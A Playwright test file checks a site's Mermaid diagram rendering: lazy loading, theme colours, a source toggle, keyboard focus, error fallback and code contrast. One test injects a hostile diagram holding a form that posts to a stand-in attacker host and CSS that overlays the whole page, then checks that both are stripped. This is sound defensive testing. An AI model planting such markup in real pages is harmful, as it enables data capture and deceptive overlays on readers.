import type { Page } from '@playwright/test'
import { expect, test } from '../../support/browser/fixtures'

const caption = 'From soot to page'
/** Milliseconds: the library is read by the browser as it is used, which takes seconds where many tests run. */
const patience = 20_000
const diagram = (page: Page) => page.locator('#article-body').getByRole('figure').filter({ hasText: caption })

/** Counts what the browser asks for to draw diagrams. */
function drawingRequests(page: Page): string[] {
  const asked: string[] = []
  page.on('request', (request) => {
    if (new URL(request.url()).pathname.startsWith('/assets/diagrams/')) asked.push(request.url())
  })
  return asked
}

test('R-246 the source of a code block reaches the library for diagrams, and its drawing is shown', async ({
  page,
}) => {
  // The real library takes seconds to load; full runs draw with it.
  await page.route('**/assets/diagrams/library/mermaid.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `export default {
        initialize() {},
        render: async (id, source) => ({ svg: '<svg><text y="20">' + source + '</text></svg>' }),
      }`,
    }),
  )
  await page.goto('/article/kitchen-sink')
  const figure = diagram(page)
  await figure.scrollIntoViewIfNeeded()
  const drawing = figure.getByRole('group', { name: caption }).locator('svg')
  await expect(drawing).toBeVisible()
  await expect(drawing).toContainText('soot[Pine soot]')
})

test('a diagram is drawn when the reader comes near it, from the site itself, in the colours of the mode, and its source stays at hand', {
  tag: '@full',
}, async ({ page, baseURL }) => {
  // The frame of a film or document may have no storage.
  await page.addInitScript(() => window === top && localStorage.setItem('darkMode', 'light'))
  const asked = drawingRequests(page)
  await page.goto('/article/kitchen-sink', { waitUntil: 'networkidle' })
  const figure = diagram(page)
  const source = figure.getByText('soot[Pine soot]')
  await expect(source).toBeVisible()
  expect(asked).toEqual([])

  await figure.scrollIntoViewIfNeeded()
  const drawing = figure.getByRole('group', { name: caption }).locator('svg')
  await expect(drawing).toBeVisible({ timeout: patience })
  await expect(drawing.getByText('Ink stick')).toBeVisible()
  await expect(source).toBeHidden()
  expect(asked.length).toBeGreaterThan(2)
  for (const address of asked) expect(new URL(address).origin).toBe(new URL(baseURL ?? '').origin)

  // Its styles have come with it: a node is filled, and otherwise in the other mode.
  const fill = () =>
    drawing
      .locator('.node rect')
      .first()
      .evaluate((node) => getComputedStyle(node).fill)
  const light = await fill()
  expect(light).not.toBe('rgb(0, 0, 0)')
  await page.evaluate(() => document.documentElement.classList.replace('light', 'dark'))
  await expect.poll(fill).not.toBe(light)
  await page.evaluate(() => document.documentElement.classList.replace('dark', 'light'))
  await expect.poll(fill).toBe(light)

  const button = figure.getByRole('button', { name: 'Source' })
  await button.press('Enter')
  await expect(button).toHaveAttribute('aria-pressed', 'true')
  await expect(source).toBeVisible()
  await expect(drawing).toBeHidden()
  await button.click()
  await expect(drawing).toBeVisible()
  await expect(source).toBeHidden()
})

test('who is at the source of a diagram by the keyboard goes on with the diagram that takes its place', {
  tag: '@full',
}, async ({ page }) => {
  await page.goto('/article/kitchen-sink', { waitUntil: 'networkidle' })
  const figure = diagram(page)
  await figure.getByRole('group', { name: 'Mermaid' }).focus()
  await expect(figure.getByRole('group', { name: caption })).toBeFocused({ timeout: patience })
})

test('a diagram that cannot be drawn shows its source and says so', { tag: '@full' }, async ({ page }) => {
  await page.goto('/article/kitchen-sink', { waitUntil: 'networkidle' })
  // The source is read when the reader comes near it.
  await diagram(page)
    .locator('code')
    .evaluate((code) => {
      code.innerHTML = code.innerHTML.replace('[Pine soot]', '[Pine soot')
    })
  const figure = diagram(page)
  await figure.scrollIntoViewIfNeeded()
  await expect(figure.getByRole('status').filter({ hasText: 'could not be drawn' })).toBeVisible({
    timeout: patience,
  })
  await expect(figure.getByText('soot[Pine soot -->')).toBeVisible()
  await expect(figure.locator('svg')).toHaveCount(0)
})

test('a hostile diagram has no form, and none of its styles puts it above the page', {
  tag: '@full',
}, async ({ page }) => {
  await page.goto('/article/kitchen-sink', { waitUntil: 'networkidle' })
  const figure = diagram(page)
  await figure.locator('code').evaluate((code) => {
    code.textContent = `%%{init: {"themeCSS": "svg, .node { position: fixed; inset: 0; z-index: 99999 }"}}%%
flowchart LR
  soot["<form action='https://evil.example/'><input name='word'></form>Pine soot"] --> stick[Ink stick]
  classDef wide position:fixed,top:0px,left:0px,width:9000px,height:9000px
  class soot wide
`
  })
  await figure.scrollIntoViewIfNeeded()
  const frame = figure.getByRole('group', { name: caption })
  await expect(frame.locator('svg').getByText('Ink stick')).toBeAttached({ timeout: patience })
  await expect(frame.locator('form, input')).toHaveCount(0)
  const positions = await frame
    .locator('svg, svg *')
    .evaluateAll((parts) => parts.map((part) => getComputedStyle(part).position))
  expect(positions).not.toContain('fixed')
  await expect(frame).toHaveCSS('contain', /layout paint|content/)
})

test('every word of code has a contrast of at least 4.5 to 1 in both modes', { tag: '@full' }, async ({
  page,
}) => {
  await page.goto('/article/kitchen-sink')
  const listings = page.locator('#article-body .notion-code')
  const colors = () =>
    listings.evaluateAll((figures) =>
      figures.flatMap((figure) => {
        const window = figure.querySelector('.notion-code-scroll')
        const box = window?.closest('details') ?? window
        const ground = box ? getComputedStyle(box).backgroundColor : ''
        const pieces = figure.querySelectorAll('.token, code, .notion-code-language, summary, .notion-copy')
        return [...pieces].map((piece) => [ground, getComputedStyle(piece).color] as const)
      }),
    )
  const channels = (color: string) => (color.match(/[\d.]+/g) ?? []).slice(0, 3).map(Number)
  const luminance = (color: string) => {
    const [red = 0, green = 0, blue = 0] = channels(color).map((channel) => {
      const share = channel / 255
      return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4
    })
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
  }
  const contrast = ([ground, color]: readonly [string, string]) => {
    const [lower = 0, upper = 0] = [luminance(ground), luminance(color)].sort((a, b) => a - b)
    return (upper + 0.05) / (lower + 0.05)
  }
  const grounds = new Set<string>()
  for (const mode of ['light', 'dark']) {
    await page.evaluate((name) => {
      document.documentElement.classList.remove('light', 'dark')
      document.documentElement.classList.add(name)
    }, mode)
    const pairs = await colors()
    expect(pairs.length).toBeGreaterThan(100)
    expect(pairs.filter((pair) => contrast(pair) < 4.5)).toEqual([])
    grounds.add(pairs[0]?.[0] ?? '')
  }
  expect(grounds.size).toBe(2)
})
